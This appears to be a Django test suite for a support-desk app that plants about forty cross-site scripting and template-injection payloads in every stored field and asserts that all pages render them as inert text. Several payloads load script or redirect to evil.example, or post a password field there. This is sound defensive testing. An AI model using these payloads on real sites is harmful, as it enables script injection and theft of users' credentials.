"""Whatever anybody types is shown as text, everywhere: none of it becomes a tag, a handler, a style or a link."""

from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import Client

from warmline.conversations import handover, noting
from warmline.conversations.appending import Words, append
from warmline.conversations.holding import current_episode, hold
from warmline.conversations.models import Conversation, Message
from warmline.customers.models import Customer
from warmline.decisions.models import StoredDecision, Topic
from warmline.desk.tests.talk import BOT, Talk, open_talk
from warmline.feedback.rating import Score, rate
from warmline.flow import respond
from warmline.knowledge.markdown import to_html
from warmline.knowledge.models import Answer, Article, Phrase
from warmline.staff.models import Person
from warmline.tasks.models import Task
from warmline.web.brand import brand_css
from warmline.web.models import Business

MARK = "xss1"
#: Where the test client thinks it is: a page may name its own address, what was asked for included.
OURS = "http://testserver/"
#: Ways that have worked somewhere, from the usual lists; each is stored in every field.
PAYLOADS = [
    "<script>alert('xss1')</script>",
    "<ScRiPt src=//evil.example/xss1.js></sCrIpT>",
    "</script><script>alert('xss1')</script>",
    "</title><script>alert('xss1')</script>",
    "</textarea><script>alert('xss1')</script>",
    "--><script>alert('xss1')</script><!--",
    "]]><script>alert('xss1')</script>",
    "<img src=x onerror=alert('xss1')>",
    "<img src=x:x onerror&#61;alert('xss1')//",
    "<svg/onload=alert('xss1')>",
    "<svg><animate onbegin=alert('xss1') attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('xss1')>",
    "<iframe srcdoc='<script>alert(`xss1`)</script>'></iframe>",
    "<object data=javascript:alert('xss1')></object>",
    "<base href=//evil.example/xss1/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/xss1'>",
    "<link rel=stylesheet href=//evil.example/xss1.css>",
    "<style>@import'//evil.example/xss1.css';</style>",
    "<form action=//evil.example/xss1><input name=password></form>",
    "<a href=javascript:alert('xss1')>click</a>",
    "<a href=\"jav&#x09;ascript:alert('xss1')\">click</a>",
    "<details open ontoggle=alert('xss1')>",
    "<input autofocus onfocus=alert('xss1')>",
    "<body onload=alert('xss1')>",
    "<template><script>alert('xss1')</script></template>",
    "<div hx-get='/people/' hx-trigger=load hx-on:click=alert('xss1')>xss1</div>",
    "\" onmouseover=alert('xss1') x=\"",
    "' autofocus onfocus=alert('xss1') x='",
    "` onload=alert('xss1') `",
    "javascript:alert('xss1')",
    "data:text/html,<script>alert('xss1')</script>",
    "[click](javascript:alert('xss1'))",
    "[click](data:text/html;base64,PHNjcmlwdD54c3MxPC9zY3JpcHQ+)",
    "![xss1](x\"onerror=alert('xss1'))",
    "<javascript:alert('xss1')>",
    "[x]: javascript:alert('xss1')\n\n[x]",
    "{{ constructor.constructor('alert(\"xss1\")')() }}",
    "{% debug %}{{ settings.SECRET_KEY }}xss1",
    "＜script＞alert('xss1')＜/script＞",
    "<scr\x00ipt>alert('xss1')</scr\x00ipt>",
]


class Elements(HTMLParser):
    """Collects what a browser would act on and our templates never write."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in (
            "iframe",
            "object",
            "embed",
            "base",
            "style",
            "math",
            "animate",
            "details-x",
            "template-x",
        ):
            self.found.append(f"<{tag}>")
        for name, value in values.items():
            address = "".join(value.split()).lower()
            if name.startswith("on") or name == "style" or name.startswith("hx-on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "data", "srcdoc", "hx-get", "hx-post") and (
                address.startswith(("javascript:", "data:", "//", "vbscript:"))
                or ("evil.example" in address and not address.startswith(("mailto:", "tel:", "/", OURS)))
            ):
                self.found.append(f"<{tag} {name}={value[:40]}>")
        if tag == "meta" and "http-equiv" in values:
            self.found.append("<meta http-equiv>")
        if tag == "img" and "src" in values and not values["src"].startswith("/static/"):
            self.found.append(f"<img src={values['src']}>")
        self.in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and MARK in data:
            self.found.append(f"script: {data[:60]}")


def check_harmless(page: str, path: str) -> None:
    elements = Elements()
    elements.feed(page)
    elements.close()
    assert elements.found == [], path
    assert "SECRET_KEY" not in page or "settings.SECRET_KEY" in page


@pytest.fixture
def poisoned(alice: Person, bob: Person, dana: Customer, request: Any) -> Talk:
    """An installation in which somebody wrote the payload into every text there is, past every form."""
    payload = request.param.replace("\x00", "")
    Business.objects.update(
        name=payload[:120],
        slogan=payload[:200],
        about=payload,
        phone=payload[:40],
        address=payload[:300],
        bot_name=payload[:60],
        greeting=payload[:500],
        email=payload[:254],
    )
    Person.objects.filter(pk=bob.pk).update(name=payload[:80], about=payload[:200])
    Customer.objects.update(
        name=payload[:120],
        email=payload[:254],
        phone=payload[:40],
        address=payload[:300],
        note=payload,
        language=payload[:8],
    )
    article = Article.objects.create(
        slug="a", title=payload[:160], category=payload[:80], body=payload, updated_by=payload[:80]
    )
    answer = Answer.objects.create(
        key="a", title=payload[:160], text=payload, article=article, updated_by=payload[:80]
    )
    Phrase.objects.create(answer=answer, text=payload[:500])
    Topic.objects.create(topic=payload[:80], words=[payload], reason=payload[:200])
    return _poisoned_talk(Person.objects.get(pk=bob.pk), Customer.objects.get(pk=dana.pk), payload)


def _poisoned_talk(bob: Person, dana: Customer, payload: str) -> Talk:
    talk = open_talk(dana, payload)
    respond(str(talk.pk), talk.row.last_number)
    Conversation.objects.update(page=payload[:500], instruction=payload[:500], language=payload[:8])
    with hold(talk.pk) as row:
        source = {"title": payload, "url": payload}
        append(
            row,
            current_episode(row),
            BOT,
            Words(payload, sources=(source,), choices=({"label": payload, "text": payload},)),
        )
        append(row, current_episode(row), BOT, Words(payload, asks="csat"))
    talk.queue()
    handover.take(talk.pk, bob)
    noting.note(talk.pk, bob, payload)
    rate(talk.pk, Score("csat", 1, payload[:2000]))
    Task.objects.create(kind="promise", text=payload[:300], customer=dana, about=payload[:80])
    StoredDecision.objects.update(because=payload[:500], to_customer=payload[:500], answer_key=payload[:120])
    return talk


@pytest.mark.slow
@pytest.mark.parametrize("poisoned", PAYLOADS, indirect=True)
def test_what_was_typed_is_only_text_on_every_page(poisoned: Talk, alice: Person) -> None:
    client = Client()
    client.force_login(alice)
    payload = Message.objects.filter(conversation=poisoned.pk, kind="customer")[0].text
    customer = poisoned.row.customer_id
    decision = StoredDecision.objects.filter(conversation=poisoned.pk).first()
    paths = [
        "/desk/?tab=all",
        f"{poisoned.path}?whole=1",
        f"{poisoned.path}colleagues",
        "/decisions/",
        f"/customers/{customer}/",
    ]
    paths += [
        "/tasks/",
        "/help/",
        "/help/articles/a/",
        "/people/",
        "/business/",
        "/rules/",
        "/knowledge/",
        "/knowledge/answers/a/",
    ]
    paths += [
        "/knowledge/articles/a/",
        "/knowledge/articles/a/deletion/",
        "/shop/",
        "/staff/login/",
        "/nowhere/",
        "/welcome/next/",
    ]
    paths += [f"/decisions/{decision.pk}/"] if decision else []
    shown = 0
    for path in paths:
        page = client.get(path)
        assert page.status_code < 500, path
        check_harmless(page.content.decode(), path)
        shown += page.status_code == 200 and MARK in page.content.decode()
    assert shown > 8 or MARK not in payload, "the corpus reaches the pages"
    for path, fields in (
        ("/help/search/", {"q": payload}),
        ("/desk/", {"q": payload, "tab": payload}),
        ("/staff/login/", {"next": payload}),
        ("/knowledge/trial/", {"question": payload, "q": payload}),
    ):
        check_harmless(client.get(path, fields).content.decode(), path)
        check_harmless(client.get(path, fields, headers={"HX-Request": "true"}).content.decode(), path)
    for path in (
        "/knowledge/preview/",
        "/people/",
        "/business/",
        "/knowledge/new-article/",
        "/rules/",
        "/staff/login/",
    ):
        fields = {
            "body": payload,
            "title": payload,
            "name": payload,
            "email": payload,
            "brand_color": payload,
            "login": payload,
        }
        check_harmless(client.post(path, fields).content.decode(), path)
    ElementTree.fromstring(client.get("/sitemap.xml").content)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_makes_no_link_that_runs_and_keeps_no_tag_of_the_writer(payload: str) -> None:
    check_harmless(to_html(payload), payload)
    assert "<script" not in to_html(payload).lower()


@pytest.mark.parametrize(
    "color",
    [
        "",
        "red",
        "#fff",
        "#b4532a;} body{display:none",
        "#b4532a\n}",
        "#b4532a */",
        "url(//e)",
        "#１２３４５６",
        "expression(1)",
        "#b4532",
        "x" * 7,
    ],
)
def test_a_colour_is_a_colour_or_nothing(color: str, alice: Person) -> None:
    assert brand_css(color) == brand_css("#b4532a")
    Business.objects.update(brand_color=color[:7])
    client = Client()
    client.force_login(alice)
    assert client.get("/brand.css").content.decode() == brand_css("#b4532a")
    client.post(
        "/business/",
        {
            "name": "B",
            "bot_name": "C",
            "timezone": "UTC",
            "currency": "EUR",
            "language": "en",
            "brand_color": color,
        },
    )
    assert Business.objects.get().brand_color == color[:7], "refused"
